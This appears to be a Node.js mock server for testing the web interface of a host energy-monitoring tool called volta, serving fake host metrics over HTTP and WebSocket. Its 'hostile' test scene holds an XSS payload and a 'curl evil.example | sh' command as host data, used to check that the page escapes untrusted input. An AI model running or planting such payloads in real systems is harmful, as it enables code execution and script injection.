// A small server with volta's JSON shapes, for working on the page and for states that the real binary
// cannot be brought into at will (login, hostile names, no hosts). Never part of the product.
//   node test/web/mock_server.mjs [--port 8431] [--root build/web] [--scene fleet|laptop|fresh|estimate|empty|login|hostile|seasoned]
import { createServer } from "node:http";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { dirname, extname, join, normalize } from "node:path";
import { fileURLToPath } from "node:url";

import { laptop, server, silent } from "./mock_machines.mjs";

const here = dirname(fileURLToPath(import.meta.url));
const { WebSocketServer } = createRequire(join(here, "../../web/package.json"))("ws");

const types = { ".html": "text/html; charset=utf-8", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml" };
const kPolicy = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
const kHostile = `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>`;
export const kAccessKey = "mock-access-key";

const scenes = {
  fleet: () => [laptop("aurora"), server("rack1-node07"), silent("edge-gateway", "offline"), { ...silent("build-box", "late"), power: () => 48.2, quality: "measured" }],
  laptop: () => [laptop("aurora")],
  seasoned: () => [{ ...laptop("aurora"), since: Date.now() - 20 * 86_400_000 }],
  fresh: () => [{ ...laptop("aurora"), since: Date.now() - 22_000 }],
  estimate: () => [server("rack1-node07")],
  empty: () => [],
  login: () => [laptop("aurora")],
  hostile: () => [{ ...server(kHostile), id: "h-laptop", facts: { ...server(kHostile).facts, os: { name: kHostile }, cpu: { model: kHostile }, energy_command: "curl evil.example | sh", power_sources: [{ source: "rapl", zone: "package", device: "x", readable: false }] } }],
};

// One minute in each hour is missing: a gap that charts must show. A young host has all there is of its history, whatever the hour.
const missing = (host, t, step) => step <= 60_000 && host.since === undefined && t % 3600 >= 1200 && t % 3600 < 1260;
const round = (value) => (value === null ? null : Math.round(value * 1e6) / 1e6);

function matches(pattern, name) {
  return pattern.endsWith("*") ? name.startsWith(pattern.slice(0, -1)) : pattern === name;
}

// Milliseconds of "10s", "500ms" or "10", which is seconds, as the OpenAPI document has it.
function stepOf(text) {
  const match = /^(\d+(?:\.\d+)?)(ms|s|m|h|d)?$/.exec(text);
  if (!match) throw new Error(`not a step: ${text}`);
  return Math.max(1, Number(match[1]) * { ms: 1, s: 1000, m: 60_000, h: 3_600_000, d: 86_400_000 }[match[2] ?? "s"]);
}

function seriesAnswer(host, query) {
  const number = (key) => (/^\d+$/.test(query.get(key) ?? "") ? Number(query.get(key)) : Date.parse(query.get(key) ?? ""));
  const start = number("start");
  const end = number("end");
  const step = query.has("step") ? stepOf(query.get("step")) : Math.max(1000, Math.ceil((end - start) / Number(query.get("max_points") ?? 300) / 1000) * 1000);
  const timestamps = [];
  for (let t = Math.floor(start / step) * step; t <= end && timestamps.length < 11_000; t += step) timestamps.push(t);
  const now = Date.now();
  const spread = { min: 0.7, max: 1.6 }[query.get("agg")] ?? 1;
  const wanted = host.series.filter((one) => one.name === query.get("name") && [...query].every(([key, value]) => !key.startsWith("label.") || one.labels[key.slice(6)] === value));
  const series = wanted.map((one) => ({ labels: one.labels, values: timestamps.map((t) => (t > now || t < (host.since ?? 0) || missing(host, t / 1000, step) ? null : round(spread * one.f(t / 1000)))) }));
  return { start, end, step_ms: step, tier: step % 3_600_000 === 0 ? "1h" : step % 60_000 === 0 ? "1m" : "raw", timestamps, series };
}

function hostItem(host) {
  const age = { live: 0, late: 40_000, offline: 7_500_000, disabled: 9e7 }[host.state];
  return {
    id: host.id, name: host.name, state: host.state, last_seen: new Date(Date.now() - age).toISOString(), agent_version: host.agent_version, clock_offset_ms: 3, facts: host.facts,
    ...(host.since === undefined ? {} : { created: new Date(host.since).toISOString() }), power_watts: round(host.power(Date.now() / 1000)), power_quality: host.quality,
  };
}

export async function startMock({ port = 0, root = join(here, "../../build/web"), scene = "fleet" } = {}) {
  const hosts = scenes[scene]();
  const loginNeeded = scene === "login";
  const problem = (status, code, title) => ({ status, type: "application/problem+json", body: { type: `urn:volta:${code}`, title, status, detail: "", code, errors: [], request_id: "mock" } });
  const loggedIn = (request) => !loginNeeded || /volta_session=yes/.test(request.headers.cookie ?? "");

  function session(request, body) {
    if (request.method === "GET") return { body: { role: loggedIn(request) ? (loginNeeded ? "admin" : "viewer") : "none", login_required: loginNeeded } };
    if (request.headers["x-volta-request"] !== "1") return problem(403, "csrf", "The request header is missing");
    if (request.method === "DELETE") return { body: {}, cookie: "volta_session=no; Path=/; HttpOnly; SameSite=Strict; Max-Age=0" };
    if (JSON.parse(body).access_key !== kAccessKey) return problem(401, "wrong_key", "Wrong access key");
    return { body: { role: "admin", login_required: true }, cookie: "volta_session=yes; Path=/; HttpOnly; SameSite=Strict" };
  }

  function api(request, url, body) {
    if (url.pathname === "/api/v1/session") return session(request, body);
    if (!loggedIn(request)) return problem(401, "login_needed", "Unauthorized");
    const query = url.searchParams;
    const host = hosts.find(({ id }) => id === query.get("host"));
    switch (url.pathname) {
      case "/api/v1/hosts":
        return { body: { items: hosts.map(hostItem), next_cursor: null } };
      case "/api/v1/system/version":
        return { body: { version: "0.1.0-mock" } };
      case "/api/v1/system/capabilities":
        return { body: { insecure_http: false, retention: { engine: "volta", raw_s: 1_209_600, minute_s: 15_552_000, hour_s: 157_680_000, size_bytes: 2_000_000_000 } } };
      case "/api/v1/latest":
      case "/api/v1/series":
      case "/api/v1/energy":
        if (!host) return problem(404, "unknown_host", "There is no such host");
    }
    if (url.pathname === "/api/v1/series") return { body: seriesAnswer(host, query) };
    if (url.pathname === "/api/v1/energy") {
      const seconds = (Date.now() - Number(query.get("start"))) / 1000;
      const joules = host.quality ? host.power(0) * seconds : null;
      return { body: { host: host.id, start: query.get("start"), end: query.get("end"), joules, kwh: joules === null ? null : joules / 3.6e6, quality: host.quality, zone: "host" } };
    }
    if (url.pathname === "/api/v1/latest") {
      const t = Date.now() / 1000;
      const items = host.series.map(({ name, labels, unit, kind, f }) => ({ name, labels, value: round(f(t)), rate: kind === "counter" ? round(f(t)) : null, unit, quality: labels.quality ?? "measured" }));
      return { body: { host: host.id, ts: Date.now(), items } };
    }
    return problem(404, "not_found", "There is no such resource");
  }

  function page(pathname) {
    const safe = normalize(pathname).replace(/^(\.\.[/\\])+/, "");
    const file = extname(safe) && safe.startsWith("/assets/") ? safe : "/index.html";
    return { type: types[extname(file)] ?? "application/octet-stream", raw: readFileSync(join(root, file)) };
  }

  const listener = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      const url = new URL(request.url, "http://mock");
      let answer;
      try {
        answer = url.pathname.startsWith("/api/") ? api(request, url, body) : page(url.pathname);
      } catch {
        answer = problem(404, "not_found", "There is no such resource");
      }
      const headers = { "content-type": answer.type ?? "application/json", "content-security-policy": kPolicy, "x-content-type-options": "nosniff", "cache-control": "no-store" };
      if (answer.cookie) headers["set-cookie"] = answer.cookie;
      response.writeHead(answer.status ?? 200, headers);
      response.end(answer.raw ?? JSON.stringify(answer.body));
    });
  });

  const sockets = new WebSocketServer({ noServer: true });
  listener.on("upgrade", (request, socket, head) => {
    if (request.url !== "/api/v1/ws") return socket.destroy();
    sockets.handleUpgrade(request, socket, head, (client) => {
      if (!loggedIn(request)) client.close(4401, "login needed");
      else serve(client);
    });
  });

  function serve(client) {
    const timers = new Map();
    client.on("message", (text) => {
      const message = JSON.parse(text);
      clearInterval(timers.get(message.id));
      if (message.op !== "subscribe") return;
      const host = hosts.find(({ id }) => id === message.host);
      if (!host) return client.send(JSON.stringify({ op: "error", id: message.id, problem: { status: 404, code: "unknown_host", title: "There is no such host", detail: "" } }));
      const chosen = host.series.filter(({ name }) => message.names.some((pattern) => matches(pattern, name)));
      const index = chosen.map(({ name, labels, unit, kind }, i) => ({ i, name, labels, unit: kind === "counter" ? `${unit}/s` : unit, ...(kind === "counter" ? { rate: true } : {}) }));
      client.send(JSON.stringify({ op: "series", id: message.id, index }));
      const tick = () => {
        if (chosen.length === 0) return;
        const ts = Math.floor(Date.now() / 1000) * 1000;
        client.send(JSON.stringify({ op: "data", id: message.id, ts, i: index.map(({ i }) => i), v: chosen.map(({ f }) => round(f(ts / 1000))) }));
      };
      tick();
      timers.set(message.id, setInterval(tick, Math.max(200, message.interval_ms)));
    });
    client.on("close", () => timers.forEach((timer) => clearInterval(timer)));
  }

  await new Promise((done) => listener.listen(port, "127.0.0.1", done));
  const bound = listener.address().port;
  return {
    url: `http://127.0.0.1:${bound}`,
    port: bound,
    stop: () =>
      new Promise((done) => {
        for (const client of sockets.clients) client.terminate();
        listener.closeAllConnections();
        listener.close(done);
      }),
  };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const flag = (name, fallback) => (process.argv.includes(name) ? process.argv[process.argv.indexOf(name) + 1] : fallback);
  const running = await startMock({ port: Number(flag("--port", 8431)), root: flag("--root", undefined), scene: flag("--scene", "fleet") });
  console.log(`mock server on ${running.url}`);
}
